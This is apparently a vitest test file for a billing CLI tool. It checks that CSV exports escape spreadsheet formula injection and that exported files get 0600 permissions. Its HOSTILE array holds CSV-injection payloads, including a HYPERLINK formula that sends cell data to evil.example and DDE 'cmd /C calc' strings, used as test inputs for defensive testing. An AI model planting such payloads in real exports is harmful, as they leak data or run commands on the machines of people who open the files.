import { parse as parseCsv } from 'csv-parse/sync';
import fs from 'node:fs';
import path from 'node:path';
import Stripe from 'stripe';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomTestKey, startStripeSim, type StripeSim } from '../../main/stripe-sim';
import { reclaimOk, runReclaim } from '../helpers/cli';
import { tempDir } from '../helpers/core';

// Exports of a workspace whose customer text came from outside Reclaim: names
// and metadata synced from a (local) Stripe server, and an imported attribute CSV.
let dir: string;
let sim: StripeSim;
// Asynchronous: the local Stripe server runs in this process and must keep answering.
const ok = (args: string[], input = '') => reclaimOk(dir, args, input);

/** What a spreadsheet would run as a formula (OWASP CSV Injection): = + - @ (and full-width forms), tab, CR. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A plain negative number (a number column: card_expires_in_days, a numeric attribute): a spreadsheet reads it as a value. */
const NUMBER = /^-\d+(\.\d+)?$/;
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
let hostileIds: string[] = [];

beforeAll(async () => {
  sim = await startStripeSim({ seed: 31, customers: 60, rateLimit: null });
  const key = randomTestKey();
  sim.addKey(key, 'all');
  // Customer names and metadata a Stripe user typed, through the official SDK over real HTTP.
  const stripe = new Stripe(key, { host: sim.host, port: sim.port, protocol: 'http', maxNetworkRetries: 0 });
  const customers = await stripe.customers.list({ limit: 100 });
  hostileIds = customers.data.map((c) => c.id);
  for (const [i, c] of customers.data.entries()) {
    const text = HOSTILE[i % HOSTILE.length]!;
    await stripe.customers.update(c.id, { name: text, metadata: { note: text } });
  }
  dir = tempDir();
  await ok(['connect', '--key', '-', '--api-base', sim.url], `${key}\n`);
  await ok(['sync']);
  const csv = ['id,remark,delta', ...hostileIds.map((id, i) => `${id},"${HOSTILE[i % HOSTILE.length]!.replace(/"/g, '""')}",${i % 2 ? '-12.5' : '3'}`)].join('\n');
  await ok(['attributes', 'import', '-'], csv);
}, 120_000);
afterAll(async () => {
  await sim?.close();
});

describe('CSV exports are safe to open in a spreadsheet (issue #18 item 2)', () => {
  it('customers --all --format csv: no cell starts a formula; hostile text keeps its value behind a quote; numbers stay numbers', async () => {
    const text = await ok(['customers', '--all', '--format', 'csv']);
    const records = parseCsv(text, { columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(records.length).toBe(hostileIds.length);
    const bad = records.flatMap((r) => Object.entries(r).filter(([, v]) => FORMULA_START.test(v) && !NUMBER.test(v)));
    expect(bad).toEqual([]);
    const byId = new Map(records.map((r) => [r.customer_id!, r]));
    for (const [i, id] of hostileIds.entries()) {
      const rec = byId.get(id)!;
      const text = HOSTILE[i % HOSTILE.length]!;
      // Synced from Stripe: the name and a metadata attribute; imported: a CSV attribute.
      expect(rec.name).toBe(`'${text}`);
      expect(rec['attrs.note']).toBe(`'${text}`);
      expect(rec['attrs.remark']).toBe(`'${text}`);
      // A number column keeps its negative numbers as numbers (a spreadsheet reads -12.5 as a value, not a formula).
      expect(rec['attrs.delta']).toBe(i % 2 ? '-12.5' : '3');
    }
  });

  it('run plan --out and audit --out go through the same guarded writer', async () => {
    const planFile = path.join(dir, 'plan.csv');
    const auditFile = path.join(dir, 'audit.csv');
    await ok(['run', 'plan', '--out', planFile]);
    await ok(['audit', '--out', auditFile]);
    const plan = parseCsv(fs.readFileSync(planFile, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(plan.length).toBeGreaterThan(0);
    expect(plan.every((r) => HOSTILE.some((h) => r.name === `'${h}`))).toBe(true);
    const audit = parseCsv(fs.readFileSync(auditFile, 'utf8'), { columns: true }) as Record<string, string>[];
    for (const rows of [plan, audit]) expect(rows.flatMap((r) => Object.values(r).filter((v) => FORMULA_START.test(v) && !NUMBER.test(v)))).toEqual([]);
  });
});

describe('exported files are private like the data folder (issue #18 item 9)', () => {
  const mode = (file: string) => fs.statSync(file).mode & 0o777;

  it('run plan --out, audit --out and segments export FILE create 0600 files', async () => {
    const files = ['fresh-plan.csv', 'fresh-plan.json', 'fresh-audit.csv', 'fresh-segments.json'].map((f) => path.join(dir, f));
    await ok(['run', 'plan', '--out', files[0]!]);
    await ok(['run', 'plan', '--out', files[1]!]);
    await ok(['audit', '--out', files[2]!]);
    await ok(['segments', 'export', files[3]!]);
    expect(files.map((f) => [path.basename(f), mode(f).toString(8)])).toEqual(files.map((f) => [path.basename(f), '600']));
    expect(fs.readFileSync(files[0]!, 'utf8')).toMatch(/^invoice,number,customer,name,email/);
  });

  it('the user chooses otherwise: --mode 644, or an existing file they chmod-ed keeps its mode', async () => {
    const chosen = path.join(dir, 'shared-plan.csv');
    await ok(['run', 'plan', '--out', chosen, '--mode', '644']);
    expect(mode(chosen).toString(8)).toBe('644');
    const existing = path.join(dir, 'team-audit.csv');
    fs.writeFileSync(existing, 'old');
    fs.chmodSync(existing, 0o640);
    await ok(['audit', '--out', existing]);
    expect(mode(existing).toString(8)).toBe('640');
    expect(fs.readFileSync(existing, 'utf8')).toMatch(/^id,at,actor,kind/);
    const bad = await runReclaim(dir, ['segments', 'export', path.join(dir, 's.json'), '--mode', 'rw-r--r--']);
    expect({ code: bad.code, err: bad.err.trim() }).toEqual({ code: 2, err: 'reclaim: --mode must be octal permissions like 600 or 644, got "rw-r--r--"' });
  });
});
